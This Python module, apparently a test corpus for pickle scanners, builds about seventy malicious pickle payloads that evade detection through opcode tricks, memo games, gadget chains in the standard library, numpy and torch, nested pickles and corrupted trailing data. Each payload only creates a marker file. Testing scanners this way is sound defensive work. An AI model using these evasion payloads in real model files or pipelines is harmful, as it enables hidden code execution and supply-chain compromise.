"""Files that slip past scanners of pickles, built again after what was published of each kind.

Sources: M. Slaviero, "Sour Pickles" (Black Hat, 2011); E. Sultanik, "Never a dill moment" (Trail of Bits,
2021); ReversingLabs on "nullifAI" (2025); the advisories of picklescan (CVE-2025-1716, -1889, -1944, -1945,
-10155, -10156, -10157 and those of 2025 on gadgets in the standard library); T. Liu et al., "The art of hide
and seek: making pickle-based model supply chain poisoning stealthy again" (2025). The names of gadgets and
opcodes are theirs; the bytes are written here. Each payload creates the file that FCONV_HARM names.
"""

from __future__ import annotations

import pickle
import struct

SHELL = 'touch "$FCONV_HARM"'
CODE = "import os; open(os.environ['FCONV_HARM'], 'a').close()"
TWO, FOUR = b"\x80\x02", b"\x80\x04"


def text(s):
    """Push text (BINUNICODE)."""
    return b"X" + struct.pack("<I", len(s.encode())) + s.encode()


def raw(data):
    """Push bytes (BINBYTES)."""
    return b"B" + struct.pack("<I", len(data)) + data


def name(full):
    """Push what a name stands for (GLOBAL)."""
    module, _, last = full.rpartition(".")
    return f"c{module}\n{last}\n".encode()


def args(*parts):
    """Push a tuple."""
    return b"(" + b"".join(parts) + b"t"


def call(called, *parts):
    """Call a name, or what stands on the stack (REDUCE)."""
    return (name(called) if isinstance(called, str) else called) + args(*parts) + b"R"


def listed(*parts):
    """Push a list."""
    return b"](" + b"".join(parts) + b"e"


SYSTEM = call("posix.system", text(SHELL))
OS = call("importlib.import_module", text("os"))
BENIGN = b"}" + text("epoch") + b"K\x03s"
MAP = name("builtins.map") + args(name("builtins.exec"), listed(text(CODE)))
INSTANCE = name("argparse.Namespace") + b")\x81}"
GETATTR = call("builtins.getattr", call("builtins.__import__", text("os")), text("system"))
COMPILED = call("builtins.compile", text(CODE), text("x"), text("exec"))
INNER = TWO + SYSTEM + b"."

RUN = args(text(SHELL)) + b"R."
STATE = name("posix.system") + b"sb"

PICKLES = {
    # How something is called.
    "reduce": TWO + SYSTEM + b".",
    "inst": TWO + b"(" + text(SHELL) + b"iposix\nsystem\n.",
    "obj": TWO + b"(" + name("posix.system") + text(SHELL) + b"o.",
    "newobj of a lazy map": TWO + name("builtins.bytes") + b"(" + MAP + b"\x81t\x81.",
    "newobj_ex of a lazy map": FOUR + name("builtins.frozenset") + b"(" + MAP + b"}\x92t}\x92.",
    "stack_global": FOUR + text("posix") + text("system") + b"\x93" + RUN,
    "a dotted name": FOUR + text("shutil") + text("os.system") + b"\x93" + RUN,
    "extension codes of one byte": TWO + b"\x82\x11" + RUN,
    "extension codes of two bytes": TWO + b"\x83\x11\x01" + RUN,
    "extension codes of four bytes": TWO + b"\x84\x11\x01\x01\x00" + RUN,
    "setstate by build": TWO + INSTANCE + text("__setstate__") + STATE + text(SHELL) + b"b.",
    "append by build": TWO + INSTANCE + text("append") + STATE + text(SHELL) + b"a.",
    "extend by build": TWO + INSTANCE + text("extend") + STATE + b"(" + text(SHELL) + b"e.",
    "add by build": FOUR + INSTANCE + text("add") + STATE + b"(" + text(SHELL) + b"\x90.",
    # How a name is hidden.
    "names from the memo": FOUR + text("system") + b"q\x01" + text("posix") + b"q\x020" + b"h\x02h\x01\x93" + RUN,
    "memo overwritten": FOUR + text("json") + b"q\x01" + text("posix") + b"q\x0100h\x01" + text("system") + b"\x93" + RUN,
    "memo at far places": FOUR + text("posix") + b"r\xff\xff\xff\x000j\xff\xff\xff\x00" + text("system") + b"\x93" + RUN,
    "text of eight bytes' length": FOUR + b"\x8d" + struct.pack("<Q", 5) + b"posix" + text("system") + b"\x93" + RUN,
    "a walk by getattr": TWO + call(GETATTR, text(SHELL)) + b".",
    "attrgetter": TWO + call(call(call("operator.attrgetter", text("system")), OS), text(SHELL)) + b".",
    "methodcaller": TWO + call(call("operator.methodcaller", text("system"), text(SHELL)), OS) + b".",
    "an item of sys.modules": TWO + call(call("builtins.getattr", call("operator.getitem", name("sys.modules"), text("posix")), text("system")), text(SHELL)) + b".",
    "reduce over getattr": TWO + call(call("functools.reduce", name("builtins.getattr"), listed(text("system")), OS), text(SHELL)) + b".",
    "a partial": TWO + call(call("functools.partial", name("posix.system"), text(SHELL))) + b".",
    "names of Python 2": TWO + call("__builtin__.eval", text(f"exec({CODE!r})")) + b".",
    "a module of Python 2": TWO + call("commands.getoutput", text(SHELL)) + b".",
    "protocol 0": f"cposix\nsystem\n(S'{SHELL}'\ntR.".encode(),
    "protocol 0 with escapes": f"cposix\nsystem\n(V\\u0074{SHELL[1:]}\ntR.".encode(),
    # Code, and pickles in pickles.
    "exec": TWO + call("builtins.exec", text(CODE)) + b".",
    "eval": TWO + call("builtins.eval", text(f"exec({CODE!r})")) + b".",
    "a function of compiled code": TWO + call(call("types.FunctionType", COMPILED, b"}")) + b".",
    "pickle.loads": TWO + call("pickle.loads", raw(INNER)) + b".",
    "_pickle.loads": TWO + call("_pickle.loads", raw(INNER)) + b".",
    "_pickle.loads of a bytearray": b"\x80\x05" + call("_pickle.loads", b"\x96" + struct.pack("<Q", len(INNER)) + INNER) + b".",
    "three pickles deep": TWO + call("pickle.loads", raw(TWO + call("pickle.loads", raw(INNER)) + b".")) + b".",
    # Functions of the standard library that scanners did not list.
    "timeit": TWO + call("timeit.timeit", text("pass"), text(CODE)) + b".",
    "pydoc.pipepager": TWO + call("pydoc.pipepager", text(""), text(SHELL)) + b".",
    "runpy": TWO + call("runpy._run_code", text(CODE), b"}") + b".",
    "code": TWO + call(call("builtins.getattr", call("code.InteractiveInterpreter"), text("runsource")), text(CODE)) + b".",
    "cProfile": TWO + call("cProfile.run", text(CODE)) + b".",
    "profile": TWO + call("profile.run", text(CODE)) + b".",
    "bdb": TWO + call(call("builtins.getattr", call("bdb.Bdb"), text("run")), text(CODE)) + b".",
    "trace": TWO + call(call("builtins.getattr", call("trace.Trace"), text("run")), text(CODE)) + b".",
    "pty": TWO + call("pty.spawn", listed(text("sh"), text("-c"), text(SHELL))) + b".",
    "subprocess": TWO + call("subprocess.getoutput", text(SHELL)) + b".",
    "a submodule": TWO + call("multiprocessing.util.spawnv_passfds", raw(b"/bin/sh"), listed(raw(b"sh"), raw(b"-c"), raw(SHELL.encode())), b")") + b".",
    "ctypes": TWO + call(call("builtins.getattr", call("ctypes.CDLL", b"N"), text("system")), raw(SHELL.encode())) + b".",
    "os.popen": TWO + call(call("builtins.getattr", call("os.popen", text(SHELL)), text("read"))) + b".",
    "a method of numpy's tests": TWO + call("numpy.testing._private.utils.runstring", text(CODE), b"}") + b".",
    "torch.load": TWO + call("torch.load", text("x.pt")) + b".",
    "a profiler of torch's": TWO + call("torch.utils.bottleneck.__main__.run_cprofile", COMPILED, b"}") + b".",
    "dill": TWO + call("dill._dill.loads", raw(INNER)) + b".",
    "joblib": TWO + call("joblib.load", text("x")) + b".",
    # What surrounds it.
    "taken away again": TWO + SYSTEM + b"0" + BENIGN + b".",
    "taken away with a mark": TWO + b"(" + SYSTEM + b"1" + BENIGN + b".",
    "doubled": TWO + SYSTEM + b"20" + b".",
    "without an end": TWO + SYSTEM,
    "broken behind it": TWO + SYSTEM + b"\xff\xff.",
    "a frame that lies": FOUR + SYSTEM + b"\x95" + b"\xff" * 8 + b".",
    "a protocol in the middle": TWO + SYSTEM + b"\x80\x04.",
    "a buffer that is not there": b"\x80\x05" + SYSTEM + b"\x97.",
    "a text persistent id": b"\x80\x02Pposix.system\n.",
    "a persistent id": TWO + SYSTEM + b"Q.",
    "a key": TWO + b"}" + SYSTEM + b"K\x01s.",
    "an item of a set": FOUR + b"\x8f(" + SYSTEM + b"\x90.",
    "hooks of a tensor": TWO + call("collections.OrderedDict", listed(args(text("0"), SYSTEM))) + b".",
    "an array of objects": TWO + call("numpy.core.multiarray._reconstruct", name("numpy.ndarray"), b"K\x00\x85", raw(b"b"))
    + args(b"K\x01", b"K\x01\x85", call("numpy.dtype", text("O8"), b"\x89", b"\x88"), b"\x89", listed(SYSTEM)) + b"b.",
    "the source of a module": TWO + args(text("module"), name("builtins.exec"), text("x.py"), text(CODE)) + b"Q.",
}  # fmt: skip
"""Pickles by what they do."""

NO_PAYLOAD = {
    "a text persistent id", "torch.load", "a profiler of torch's", "dill", "joblib", "the source of a module",
}  # fmt: skip
"""Those that need a package, or the reader of PyTorch's, to do harm."""


def run(data):
    """Do what a pickle says, with extension codes registered as an application may have them."""
    import copyreg

    for code in (0x11, 0x111, 0x10111):
        copyreg._inverted_registry[code] = ("posix", "system")
    pickle.loads(data)
